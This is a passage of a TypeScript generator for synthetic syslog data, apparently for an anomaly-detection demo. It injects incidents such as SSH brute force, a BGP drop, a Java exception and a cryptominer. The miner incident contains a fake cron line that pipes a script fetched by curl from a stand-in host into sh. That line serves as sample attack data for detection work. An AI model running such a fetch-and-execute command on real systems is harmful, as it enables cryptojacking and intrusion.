          out.push([at, `sshd[${pid}]: Invalid user ${user} from ${ip} port ${port}`]);
          out.push([at + 900, `sshd[${pid}]: Failed password for invalid user ${user} from ${ip} port ${port} ssh2`]);
        } else {
          out.push([at + 900, `sshd[${pid}]: Failed password for root from ${ip} port ${port} ssh2`]);
          out.push([at + 2500, `sshd[${pid}]: error: maximum authentication attempts exceeded for root from ${ip} port ${port} ssh2 [preauth]`]);
        }
        at += rng.int(2000, 6000);
      }
      out.push([at, `sshd[${newPid(h, rng)}]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=root`]);
      return out;
    },
  },
  {
    id: 'bgp-down',
    host: 'sw-core-01',
    title: 'BGP neighbor down (hold time expired)',
    lines: () => [
      [0, '%BGP-3-NOTIFICATION: sent to neighbor 10.255.0.1 4/0 (hold time expired) 0 bytes'],
      [2, '%BGP-5-ADJCHANGE: neighbor 10.255.0.1 Down BGP Notification sent'],
      [4, '%BGP_SESSION-5-ADJCHANGE: neighbor 10.255.0.1 IPv4 Unicast topology base removed from session  BGP Notification sent'],
    ],
  },
  {
    id: 'java-exception',
    host: 'app-01',
    title: 'Java NullPointerException (stack trace head)',
    lines: (rng, h) => {
      const thread = httpThread(rng);
      const order = 480_000 + (h.counters.order ?? 0) + 1;
      const j = h.pids.java;
      return [
        [0, spring(h, 'ERROR', thread, 'c.e.orders.service.OrderService', `Failed to process order ${order}`)],
        [1, `orders-api[${j}]: java.lang.NullPointerException: Cannot invoke "com.example.orders.model.Customer.getId()" because "customer" is null`],
        [1, `orders-api[${j}]: \tat com.example.orders.service.OrderService.process(OrderService.java:142) ~[classes/:na]`],
        [1, `orders-api[${j}]: \tat com.example.orders.web.OrderController.create(OrderController.java:58) ~[classes/:na]`],
      ];
    },
  },
  {
    id: 'unknown-process',
    host: 'web-01',
    title: 'a never-seen process: cryptominer started from cron',
    lines: (rng, h) => {
      const pid = newPid(h, rng);
      const miner = pid + 3;
      const pool = '198.51.100.23';
      return [
        [0, `CRON[${pid}]: (www-data) CMD (curl -fsSL http://${pool}/ldr.sh | sh > /dev/null 2>&1)`],
        [4000, (t) => `kdevtmpfsi[${miner}]: [${javaTime(t)}]  net      use pool ${pool}:3333  TLS 198.51.100.23`],
        [6000, (t) => `kdevtmpfsi[${miner}]: [${javaTime(t)}]  net      new job from ${pool}:3333 diff 120001 algo rx/0 height 3281123`],
        [9000, (t) => `kdevtmpfsi[${miner}]: [${javaTime(t)}]  cpu      use profile  rx  (4 threads) scratchpad 2048 KB`],
      ];
    },
  },
];

// ---------------------------------------------------------------------------------------------
// Generation

function newHostState(rng: Rng, index: number): HostState {
  return {
    bootMs: TRAINING_START - (12 + index * 7) * 24 * 3600_000 - rng.int(0, 86_400_000),
    nextPid: rng.int(200_000, 900_000),
    session: rng.int(100, 4000),
    pids: {
      logind: rng.int(500, 900),
      java: rng.int(1500, 3000),
      postgres: rng.int(700, 1200),
      nginxMaster: rng.int(900, 1300),
      nginxWorker: rng.int(1301, 1400),
    },
    counters: {},
    ufwMac: `${macColon(rng)}:${macColon(rng)}`,
  };
}

interface Timed {
  at: number;
  render: string | ((t: Date) => string);
  incident?: string;
}

/** Generates one host's lines: episodes spaced over the span, `count` lines in total. */
function hostLines(profile: HostProfile, rng: Rng, h: HostState, start: number, span: number, count: number): Timed[] {
  // Draw episodes first, then spread their start times over the span so that the density is even.
  const episodes: Line[][] = [];
  let n = 0;
  while (n < count) {
    const lines = rng.weighted(profile.episodes)(rng, h);
    episodes.push(lines);
    n += lines.length;
  }
  const gap = span / episodes.length;
  const out: Timed[] = [];
  episodes.forEach((lines, i) => {
    const base = start + i * gap + rng.next() * gap * 0.9;
    for (const [off, render] of lines) out.push({ at: Math.round(base + off), render });
  });
  out.sort((a, b) => a.at - b.at);
  // Lines of the last episodes may fall after the span: keep the first `count`.
  return out.slice(0, count);
}

function render(profile: HostProfile, lines: Timed[], seqStart: number): RecentRecord[] {
  return lines.map((l, i) => {
    const t = new Date(l.at);
    let text = typeof l.render === 'string' ? l.render : l.render(t);
    if (profile.decorate) text = profile.decorate(text, t, seqStart + i);
    const rec: RecentRecord = { timestamp: t, host: profile.name, message: text };
    if (l.incident) rec.incident = l.incident;
    return rec;
  });
}

const byTime = (a: LogRecord, b: LogRecord): number =>
  a.timestamp.getTime() - b.timestamp.getTime() || (a.host < b.host ? -1 : a.host > b.host ? 1 : 0);

/** Generates the demo's training history and recent stream. Same options, same output. */
export function generateSampleLogs(options: SampleOptions = {}): SampleLogs {
  const seed = options.seed ?? DEFAULT_SEED;
  const perHostTraining = options.trainingLinesPerHost ?? DEFAULT_TRAINING_LINES_PER_HOST;
  const perHostRecent = options.recentLinesPerHost ?? DEFAULT_RECENT_LINES_PER_HOST;
  const recentStart = TRAINING_START + TRAINING_SPAN_MS;
  const training: LogRecord[] = [];
  const recent: RecentRecord[] = [];
  const incidents: IncidentInfo[] = [];
  // Incident start times: spread over the recent window, in a seeded order.
  const slots = INCIDENTS.map((_, i) => (i + 0.5) / INCIDENTS.length);
  const order = new Rng(seed ^ 0x5eed);
  for (let i = slots.length - 1; i > 0; i--) {
    const j = order.int(0, i);
    [slots[i], slots[j]] = [slots[j], slots[i]];
  }
  // The OOM kill restarts the Java service: keep the exception (same pid) before it.
  const oom = INCIDENTS.findIndex((d) => d.id === 'oom-killer');
  const npe = INCIDENTS.findIndex((d) => d.id === 'java-exception');
  if (slots[npe] > slots[oom]) [slots[npe], slots[oom]] = [slots[oom], slots[npe]];

  HOST_PROFILES.forEach((profile, index) => {
    const rng = new Rng((seed * 1_000_003 + index * 7919) >>> 0);
    const h = newHostState(rng, index);
    const train = hostLines(profile, rng, h, TRAINING_START, TRAINING_SPAN_MS, perHostTraining);
    const trainRecords = render(profile, train, 0);
    training.push(...trainRecords);

    const normal = hostLines(profile, rng, h, recentStart, RECENT_SPAN_MS, perHostRecent);
    const injected: Timed[] = [];
    INCIDENTS.forEach((inc, k) => {
      if (inc.host !== profile.name) return;
      const at = recentStart + Math.round(slots[k] * RECENT_SPAN_MS + (rng.next() - 0.5) * 20 * min);
      const lines = inc.lines(rng, h);
      for (const [off, r] of lines) injected.push({ at: at + off, render: r, incident: inc.id });
      incidents.push({ id: inc.id, host: inc.host, title: inc.title, lines: lines.length });
    });
    const all = [...normal, ...injected].sort((a, b) => a.at - b.at);
    recent.push(...render(profile, all, trainRecords.length));
  });

  training.sort(byTime);
  recent.sort(byTime);
  const incidentOrder = new Map(INCIDENTS.map((d, i) => [d.id, i]));
  incidents.sort((a, b) => (incidentOrder.get(a.id) ?? 0) - (incidentOrder.get(b.id) ?? 0));
  return { seed, hosts: [...DEMO_HOSTS], training, recent, incidents };
}

/** One line as a syslog collector would show it: ISO time, host, message. */
export function formatRecord(r: LogRecord): string {
  return `${r.timestamp.toISOString()} ${r.host} ${r.message}`;
}
